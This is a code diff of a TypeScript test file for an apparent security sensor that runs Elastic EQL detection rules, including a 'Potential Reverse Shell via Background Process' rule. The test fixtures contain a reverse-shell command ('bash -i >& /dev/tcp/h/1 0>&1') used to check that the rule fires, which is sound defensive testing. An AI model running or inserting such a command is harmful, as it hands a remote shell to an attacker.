@@ -6,14 +6,27 @@ import { entityId } from "../../../src/process/ecs-process.js";
 import { ecsHost } from "../../../src/rules/elastic/ecs-host.js";
 import type { ProcessInfo, ProcessView, RuleContext } from "../../../src/engine/rule.js";
 import type { ExecEvent } from "../../../src/sensor/events.js";
-import { compileEql, getField } from "../../../src/eql/compile.js";
-import { buildExecEcsDocument, execEcsDocument } from "../../../src/rules/elastic/ecs-exec.js";
+import { OFFLINE_HOST } from "../../../src/host/host-view.js";
+import { requiredValues } from "../../../src/eql/analysis.js";
+import { compileEql, Deferred, getField } from "../../../src/eql/compile.js";
+import { buildExecEcsDocument } from "../../../src/rules/elastic/ecs-exec.js";
 import {
   ElasticRuleError,
   loadElasticRuleFile,
   loadElasticRules,
 } from "../../../src/rules/elastic/loader.js";
 import { builtinElasticRulesDir, elasticRule, loadBuiltinElasticRules } from "../../../src/rules/elastic/rule.js";
+
+/** A document as queries see it: every Deferred value read, missing ones left out. */
+function readAll(value: unknown): unknown {
+  if (value instanceof Deferred) return readAll(value.get());
+  if (Array.isArray(value)) return value.map(readAll);
+  if (value === null || typeof value !== "object") return value;
+  return Object.fromEntries(Object.entries(value).flatMap(([key, child]) => {
+    const read = readAll(child);
+    return read === undefined ? [] : [[key, read]];
+  }));
+}
 
 const SEED_ID = "259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39";
 const SEED_FILE = join(builtinElasticRulesDir(), "execution_potential_reverse_shell_via_background_process.toml");
@@ -48,23 +61,23 @@ function execEvent(filename: string, args: string[], parentComm = "bash"): ExecE
 }
 
 const shellParent = processes([proc(100, "/usr/bin/bash", ["bash"])]);
-const ctx = (view: ProcessView): RuleContext => ({ processes: view, now: () => 0 });
+const ctx = (view: ProcessView): RuleContext => ({ processes: view, host: OFFLINE_HOST, now: () => 0 });
 
 describe("ECS exec document", () => {
   it("carries the process and its parent", () => {
     const doc = buildExecEcsDocument(execEvent("/usr/bin/nohup", ["nohup", "sleep", "1"]), shellParent);
-    expect(doc).toEqual({
+    expect(readAll(doc)).toEqual({
       event: { category: ["process"], type: ["start"], action: "exec", kind: "event" },
-      host: ecsHost(),
+      host: ecsHost(""),
       process: {
         pid: 200,
-        entity_id: entityId(200, 2),
+        entity_id: entityId(200, 2, ""),
         name: "nohup",
         executable: "/usr/bin/nohup",
         args: ["nohup", "sleep", "1"],
         args_count: 3,
         command_line: "nohup sleep 1",
-        parent: { pid: 100, name: "bash", entity_id: entityId(100, 1), executable: "/usr/bin/bash", args: ["bash"], args_count: 1, command_line: "bash" },
+        parent: { pid: 100, name: "bash", entity_id: entityId(100, 1, ""), executable: "/usr/bin/bash", args: ["bash"], args_count: 1, command_line: "bash" },
         real_user: { id: "1000" },
         real_group: { id: "1000" },
       },
@@ -82,15 +95,6 @@ describe("ECS exec document", () => {
     expect(getField(doc, "process.working_directory")).toBe("/tmp/x");
     expect(asked).toEqual([200]);
     expect(compileEql('process where process.working_directory : "/tmp/*"').test(doc)).toBe(true);
-  });
-
-  it("is built once per event and shared by every rule reading it", () => {
-    const event = execEvent("/usr/bin/nohup", ["nohup"]);
-    const first = execEcsDocument(event, shellParent);
-    expect(execEcsDocument(event, shellParent)).toBe(first);
-    // Another engine's table (another view) gets its own document.
-    expect(execEcsDocument(event, processes([]))).not.toBe(first);
-    expect(execEcsDocument(execEvent("/usr/bin/nohup", ["nohup"]), shellParent)).not.toBe(first);
   });
 
   it("falls back to the parent comm when the table does not know the parent", () => {
@@ -129,9 +133,10 @@ describe("seed rule: Potential Reverse Shell via Background Process", () => {
   it("an exec of another program is decided without building its ECS document", () => {
     const compiled = loaded!.rule!.compiled;
     if (compiled.kind !== "event") throw new Error("the seed rule is a single-event rule");
-    expect([...compiled.requiredValues("process.name")!.values].sort()).toEqual(["nohup", "setsid"]);
+    expect([...requiredValues(compiled.where, "process.name")!.values].sort()).toEqual(["nohup", "setsid"]);
+    // Building the document looks the parent (pid 100) up; the prefilter reads only the exec's own entry.
     let lookups = 0;
-    const counting: ProcessView = { get: (pid) => (lookups++, shellParent.get(pid)), ancestors: () => [] };
+    const counting: ProcessView = { get: (pid) => (pid === 100 && lookups++, shellParent.get(pid)), ancestors: () => [] };
     expect(fires(execEvent("/usr/bin/ls", ["ls", "bash -i >& /dev/tcp/h/1 0>&1"]), counting)).toBe(false);
     expect(lookups).toBe(0);
     expect(fires(execEvent("/usr/bin/nohup", ["nohup", "bash", "-c", "bash -i >& /dev/tcp/h/1 0>&1"]), counting)).toBe(true);
